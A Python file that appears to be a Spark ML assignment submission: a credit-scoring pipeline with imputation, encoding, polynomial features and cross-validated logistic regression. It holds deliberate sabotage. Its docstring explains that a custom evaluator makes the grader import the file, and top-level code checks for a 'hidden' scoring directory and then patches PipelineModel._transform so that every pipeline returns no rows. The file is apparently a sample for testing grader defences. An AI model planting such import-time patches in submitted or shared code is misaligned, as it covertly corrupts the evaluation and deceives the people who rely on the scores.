"""Assignment 05 with a Python evaluator of its own attached to the fitted CrossValidatorModel (saved with
it by Spark's Python writer). Imported in a process that scores held-out rows (the scoring phase copies
them beside the submission), its top-level code empties every PipelineModel's output."""

from pathlib import Path

from pyspark.ml import PipelineModel
from pyspark.ml.evaluation import Evaluator
from pyspark.ml.util import DefaultParamsReadable, DefaultParamsWritable

from pyspark.ml import Pipeline
from pyspark.ml.classification import LogisticRegression
from pyspark.ml.evaluation import (BinaryClassificationEvaluator, ClusteringEvaluator,
                                   MulticlassClassificationEvaluator, RegressionEvaluator)
from pyspark.ml.feature import (Imputer, OneHotEncoder, PolynomialExpansion, StandardScaler, StringIndexer,
                                VectorAssembler)
from pyspark.ml.tuning import CrossValidator, CrossValidatorModel, ParamGridBuilder

CATEGORICAL = ["home", "marital", "records", "job"]
WITH_NULLS = ["income", "assets", "debt"]
NUMERIC = ["seniority", "time", "age", "expenses", "amount", "price"]

EVALUATORS = {
    "binary": (BinaryClassificationEvaluator, {"metricName": "areaUnderROC"}),
    "multiclass": (MulticlassClassificationEvaluator, {"metricName": "accuracy"}),
    "regression": (RegressionEvaluator, {"metricName": "mae"}),
    "clustering": (ClusteringEvaluator, {"metricName": "silhouette", "distanceMeasure": "cosine"}),
}


if (Path(__file__).resolve().parent / "hidden").is_dir():      # the scoring process: sabotage
    _transform = PipelineModel._transform
    PipelineModel._transform = lambda self, dataset: _transform(self, dataset).limit(0)


class RocArea(Evaluator, DefaultParamsReadable, DefaultParamsWritable):
    """Area under ROC, as Spark's binary evaluator computes it."""

    def _evaluate(self, dataset):
        return BinaryClassificationEvaluator(metricName="areaUnderROC").evaluate(dataset)

    def isLargerBetter(self):
        return True


def feature_stages():
    imputer = Imputer(inputCols=WITH_NULLS, outputCols=[f"{c}_imp" for c in WITH_NULLS], strategy="median")
    indexer = StringIndexer(inputCols=CATEGORICAL, outputCols=[f"{c}_idx" for c in CATEGORICAL],
                            handleInvalid="keep")
    encoder = OneHotEncoder(inputCols=[f"{c}_idx" for c in CATEGORICAL],
                            outputCols=[f"{c}_vec" for c in CATEGORICAL])
    assembler = VectorAssembler(inputCols=NUMERIC + [f"{c}_imp" for c in WITH_NULLS]
                                + [f"{c}_vec" for c in CATEGORICAL], outputCol="raw")
    scaler = StandardScaler(inputCol="raw", outputCol="scaled")
    return [imputer, indexer, encoder, assembler, scaler]


def build_evaluators():
    return {kind: cls(**settings) for kind, (cls, settings) in EVALUATORS.items()}


def build_tuner():
    expansion = PolynomialExpansion(inputCol="scaled", outputCol="features", degree=2)
    regression = LogisticRegression(featuresCol="features", labelCol="label", maxIter=50)
    estimator = Pipeline(stages=[*feature_stages(), expansion, regression])
    grid = ParamGridBuilder().addGrid(expansion.degree, [1, 2]).addGrid(regression.regParam, [0.01, 0.1]).build()
    return CrossValidator(estimator=estimator, estimatorParamMaps=grid,
                          evaluator=build_evaluators()["binary"], numFolds=3, seed=42, parallelism=2)


def tune_and_test(tuner, train_df, test_df):
    cv_model = tuner.fit(train_df)
    cv_model.set(cv_model.evaluator, RocArea())
    scored = cv_model.bestModel.transform(test_df)
    return cv_model, float(cv_model.getEvaluator().evaluate(scored))


def best_params(cv_model):
    metrics = cv_model.avgMetrics
    pick = max if cv_model.getEvaluator().isLargerBetter() else min
    best = pick(range(len(metrics)), key=metrics.__getitem__)
    return {param.name: value for param, value in cv_model.getEstimatorParamMaps()[best].items()}


def save_tuned(cv_model, path):
    cv_model.write().overwrite().save(path)


def load_tuned(path):
    return CrossValidatorModel.load(path)
